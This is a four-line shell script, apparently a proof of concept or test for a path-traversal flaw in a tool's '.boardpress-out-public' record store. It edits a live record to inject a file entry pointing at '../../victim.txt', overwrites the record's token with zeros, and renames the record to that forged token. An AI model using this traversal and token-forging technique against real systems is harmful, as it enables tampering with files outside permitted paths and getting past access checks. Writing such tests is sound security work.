echo keep > ../victim.txt
rec=$(grep -l '^role live' .boardpress-out-public/*)
sed -i -e 's|^end$|file 1 5 0 0 ../../victim.txt\nend|' -e 's/^token .*/token 00000000000000000000000000000000/' "$rec"
mv "$rec" .boardpress-out-public/00000000000000000000000000000000
